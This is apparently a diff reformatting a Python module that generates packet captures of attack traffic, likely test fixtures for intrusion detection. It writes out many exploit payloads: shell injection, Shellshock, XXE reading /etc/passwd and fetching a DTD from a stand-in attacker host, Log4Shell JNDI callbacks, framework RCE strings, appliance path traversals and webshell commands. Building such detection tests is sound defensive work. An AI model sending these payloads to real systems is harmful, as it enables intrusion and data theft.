@@ -76,7 +76,8 @@ def sqli() -> Capture:
 def injection() -> Capture:
     """Input for a shell, an XML parser, a template engine and PHP."""
     xml = {"Content-Type": "application/xml"}
-    dtd = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'
+    strict = b'"-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"'
+    dtd = b"<!DOCTYPE html PUBLIC " + strict + b"><html/>"
     gadget = '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";}'
     cookie = {"Cookie": "cart=O%3A6%3A%22Logger%22%3A1%3A%7Bs%3A4%3A%22file%22%3Bs%3A5%3A%22x.php%22%3B%7D"}
     capture = Capture()
@@ -97,7 +98,11 @@ def injection() -> Capture:
             post("/diag", b"target=127.0.0.1%7Cuname+-a"),
             get("/cgi-bin/status", agent="() { :;}; echo; /usr/bin/id"),
             post("/api/import", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', headers=xml),
-            post("/api/import", f'<!DOCTYPE a [<!ENTITY % d SYSTEM "http://{ATTACKER}/x.dtd"> %d;]><a/>'.encode(), headers=xml),
+            post(
+                "/api/import",
+                f'<!DOCTYPE a [<!ENTITY % d SYSTEM "http://{ATTACKER}/x.dtd"> %d;]><a/>'.encode(),
+                headers=xml,
+            ),
             get("/hello?name=%7B%7B''.__class__.__mro__%7D%7D"),
             get("/", agent=gadget),
             get("/", headers=cookie),
@@ -121,13 +126,19 @@ def log4shell() -> Capture:
             get(f"/?x=%24%7Bjndi%3Armi%3A%2F%2F{ATTACKER}%2Fa%7D", response()),
             post("/login", f"user=$%7Bjndi:ldap://{CALLBACK}/a%7D&pass=x".encode(), FORBIDDEN),
             get("/", response(), agent=f"${{${{lower:j}}ndi:${{lower:l}}dap://{CALLBACK}/a}}"),
-            get("/", response(), headers={"X-Api-Version": f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{CALLBACK}/a}}"}),
+            get(
+                "/",
+                response(),
+                headers={"X-Api-Version": f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{CALLBACK}/a}}"},
+            ),
         ],
     )
     lookup = TcpConversation(capture, SERVER, ATTACKER, 49152, 1389).open()
     lookup.client(bytes.fromhex("300c020101600702010304008000"))  # bindRequest, anonymous
     lookup.server(bytes.fromhex("300c02010161070a010004000400"))  # bindResponse, success
-    lookup.client(b"\x30\x25\x02\x01\x02\x63\x20\x04\x01a\x0a\x01\x00\x0a\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectClass\x30\x00")
+    lookup.client(
+        bytes.fromhex("3025 020102 6320 040161 0a0100 0a0103 020100 020100 010100 870b") + b"objectClass" + b"\x30\x00"
+    )
     attributes = b"".join(
         _ldap_attribute(name, value)
         for name, value in (
@@ -164,7 +175,10 @@ def frameworks() -> Capture:
             post("/index.action", b"id=%25%7B(%23context%5B%22xwork%22%5D)%7D"),
             post("/greeting", b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
             post("/functionRouter", b"x", headers=spel),
-            get("/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=probe"),
+            get(
+                "/index.php?s=/Index/%5Cthink%5Capp/invokefunction"
+                "&function=call_user_func_array&vars[0]=md5&vars[1][]=probe"
+            ),
         ],
     )
     browse(capture, sport=50001)
@@ -187,7 +201,9 @@ def appliances() -> Capture:
         [
             post("/autodiscover/autodiscover.json?@example.org/powershell/?X-Rps-CAT=x", b"x"),
             get("/vpn/../vpns/cfg/smb.conf"),
-            post("/moveitisapi/moveitisapi.dll?action=m2", b"x", headers={"X-siLock-Transaction": "folder_add_by_path"}),
+            post(
+                "/moveitisapi/moveitisapi.dll?action=m2", b"x", headers={"X-siLock-Transaction": "folder_add_by_path"}
+            ),
             get("/human2.aspx", headers={"X-siLock-Comment": "00000000-0000-0000-0000-000000000000"}),
             get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts"),
             post("/mgmt/tm/util/bash", b"{}", headers=bypass),
@@ -216,7 +232,9 @@ def webshells() -> Capture:
             Exchange(request("/shell.jsp", "PUT", text, jsp), FORBIDDEN),
             Exchange(request("/probe.jsp/", "PUT", text, b"hello"), FORBIDDEN),
             get("/uploads/a.php?cmd=whoami", response(b"www-data\n"), agent=CURL),
-            get("/uploads/a.php?c=id", response(b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"), agent=CURL),
+            get(
+                "/uploads/a.php?c=id", response(b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"), agent=CURL
+            ),
             post("/uploads/a.php", chopper, response(b"1")),
         ],
     )
